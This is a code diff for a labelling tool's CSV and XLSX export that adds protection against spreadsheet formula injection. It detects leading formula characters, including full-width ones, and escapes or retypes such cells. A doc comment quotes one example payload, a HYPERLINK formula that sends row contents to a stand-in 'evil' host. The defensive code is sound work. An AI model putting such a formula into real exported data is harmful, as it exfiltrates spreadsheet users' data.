@@ -21,10 +21,36 @@ const historySql = `
   SELECT e.id AS event_id, e.item_id, i.external_id, i.text, e.label, e.annotator, e.origin, e.created_at, e.action_id
   FROM label_events e JOIN items i ON i.id = e.item_id ORDER BY e.id`;
 
+/**
+ * Spreadsheet formula injection (OWASP "CSV Injection"): a review that opens with `=`, `+`, `-`,
+ * `@`, a tab or a carriage return is run as a formula when the export is opened in Excel,
+ * LibreOffice or Google Sheets (`=HYPERLINK("http://evil/?"&A2, "details")` sends the row away).
+ * The full-width forms count too: Excel in East Asian locales reads `＝` as `=`.
+ */
+export function looksLikeFormula(text: string): boolean {
+  return /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text);
+}
+
+/**
+ * A CSV field, quoted as RFC 4180 needs. Text that a spreadsheet would run as a formula gets the
+ * OWASP prefix, a single quote, which every spreadsheet shows as text; numbers (ids, scores) are
+ * left alone, since a negative number is no formula.
+ */
 export function csvField(value: unknown): string {
   if (value === null || value === undefined) return '';
-  const s = String(value);
+  let s = String(value);
+  if (typeof value === 'string' && looksLikeFormula(s)) s = `'${s}`;
   return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
+}
+
+/**
+ * An XLSX cell value. exceljs writes plain strings as `t="str"`, the type of a formula's cached
+ * result; text that looks like a formula goes in as an inline string (`t="inlineStr"`) instead,
+ * which no spreadsheet evaluates. The text itself stays as it was: unlike CSV, the cell type
+ * already says it is text.
+ */
+export function xlsxCellValue<T>(value: T): T | { richText: { text: string }[] } {
+  return typeof value === 'string' && looksLikeFormula(value) ? { richText: [{ text: value }] } : value;
 }
 
 class BufferedFile {
@@ -103,9 +129,9 @@ async function exportXlsx(project: Project, path: string, columns: readonly stri
           const v = row[c] ?? null;
           if (typeof v === 'string' && v.length > xlsxCellLimit) {
             truncatedCells++;
-            return [c, v.slice(0, xlsxCellLimit)];
+            return [c, xlsxCellValue(v.slice(0, xlsxCellLimit))];
           }
-          return [c, v];
+          return [c, xlsxCellValue(v)];
         }),
       );
       sheet.addRow(values).commit();
